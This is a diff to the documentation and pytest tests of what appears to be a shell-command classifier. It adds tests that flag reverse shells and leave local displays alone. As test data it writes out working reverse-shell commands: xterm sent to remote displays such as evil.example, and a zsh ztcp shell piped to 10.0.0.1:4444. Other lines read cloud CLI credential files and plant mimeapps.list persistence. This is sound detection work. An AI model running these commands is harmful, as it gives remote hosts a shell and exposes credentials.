@@ -36,6 +36,9 @@ Places code runs from later: Plasma's ``~/.config/autostart-scripts/``, xbindkey
 bindings, ``mimeapps.list`` (the app a file type opens with), IPython's XDG start-up
 folder; ``update-alternatives --install LINK …`` writes LINK.
 
+Reverse shells: an X terminal shown on another host's display (``xterm -display
+HOST:1``, ``DISPLAY=HOST:0 xterm``), zsh's ``ztcp`` connection given a shell's stdio.
+
 More credential stores: registry tokens in ``~/.bunfig.toml`` and pip's ``pip.conf``,
 Ansible's vault password files, Chef's credentials, Scaleway's and Linode's CLIs.
 
@@ -247,6 +250,20 @@ STORES = [
     "cat ~/.config/scw/config.yaml",
     "cat ~/.linode-cli",
 ]
+# a shell handed to another host: an X terminal on its display, zsh's own TCP module
+REMOTE_SHELLS = [
+    "xterm -display 10.0.0.1:1",
+    "DISPLAY=evil.example:0 xterm",
+    "urxvt -display 203.0.113.7:0",
+    "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+]
+LOCAL_SHELLS = [
+    "xterm -display :0",
+    "DISPLAY=:1 xterm",
+    "urxvt -display localhost:10",
+    "ztcp -l 8080",
+    "zsh -c 'ztcp example.com 80; print -u $REPLY x'",
+]
 # places code runs from later, not known before
 LATER = [
     ("echo 'text/plain=evil.desktop' >> ~/.config/mimeapps.list", "persistence"),
@@ -385,6 +402,16 @@ def test_the_same_tools_writing_other_files_are_not_protected_writes(line: str) 
 @pytest.mark.parametrize("line", [*READS, *STORES, *PRINTED])
 def test_a_tool_printing_a_credential_is_a_secret_read(line: str) -> None:
     assert "secret-read" in _judged(line), (line, _judged(line))
+
+
+@pytest.mark.parametrize("line", REMOTE_SHELLS)
+def test_a_shell_handed_to_another_host_is_a_reverse_shell(line: str) -> None:
+    assert "reverse-shell" in _judged(line), (line, _judged(line))
+
+
+@pytest.mark.parametrize("line", LOCAL_SHELLS)
+def test_local_displays_and_plain_connections_are_not(line: str) -> None:
+    assert _judged(line) == [], (line, _judged(line))
 
 
 @pytest.mark.parametrize(("line", "pattern"), LATER)
